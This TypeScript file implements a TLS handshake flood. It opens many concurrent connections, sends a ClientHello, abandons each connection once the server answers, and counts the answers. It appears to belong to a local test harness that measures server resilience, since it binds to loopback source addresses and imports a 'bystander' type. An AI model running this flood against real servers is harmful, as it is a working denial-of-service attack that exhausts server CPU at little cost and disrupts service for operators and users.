import { createConnection } from 'node:net';
import { helloOf } from '../../support/client-hello.ts';
import type { Place } from './bystander.ts';

/** Who begins handshakes, and how many at a time. */
export interface Flood {
  readonly addresses: number;
  readonly connections: number;
  /** Milliseconds. */
  readonly duration: number;
}

/**
 * Begins TLS handshakes and leaves each after the server's answer, so that the flood costs the attacker next to nothing. Returns how many
 * were answered. As a program: `node handshake-flood.ts <host> <port> <flood as JSON>`.
 */
export async function flood({ host, port }: Place, { addresses, connections, duration }: Flood): Promise<number> {
  const hello = await helloOf({ servername: 'a.example', ecdhCurve: 'X25519' });
  const end = performance.now() + duration;
  let answered = 0;
  const one = (position: number): Promise<void> => {
    const { promise, resolve } = Promise.withResolvers<void>();
    const socket = createConnection({ host, port, localAddress: `127.67.0.${1 + (position % addresses)}` });
    socket.on('error', () => undefined).once('close', () => resolve());
    socket.once('data', () => {
      answered += 1;
      socket.destroy();
    });
    socket.write(hello);
    setTimeout(() => socket.destroy(), Math.max(0, end - performance.now())).unref();
    return promise;
  };
  const all = async (position: number): Promise<void> => {
    while (performance.now() < end) await one(position);
  };
  await Promise.all(Array.from({ length: connections }, (_, position) => all(position)));
  return answered;
}

if (process.argv[1]?.endsWith('handshake-flood.ts') === true) {
  const [host = '', port, options = ''] = process.argv.slice(2);
  process.stdout.write(`${await flood({ host, port: Number(port) }, JSON.parse(options) as Flood)}\n`);
  process.exit();
}
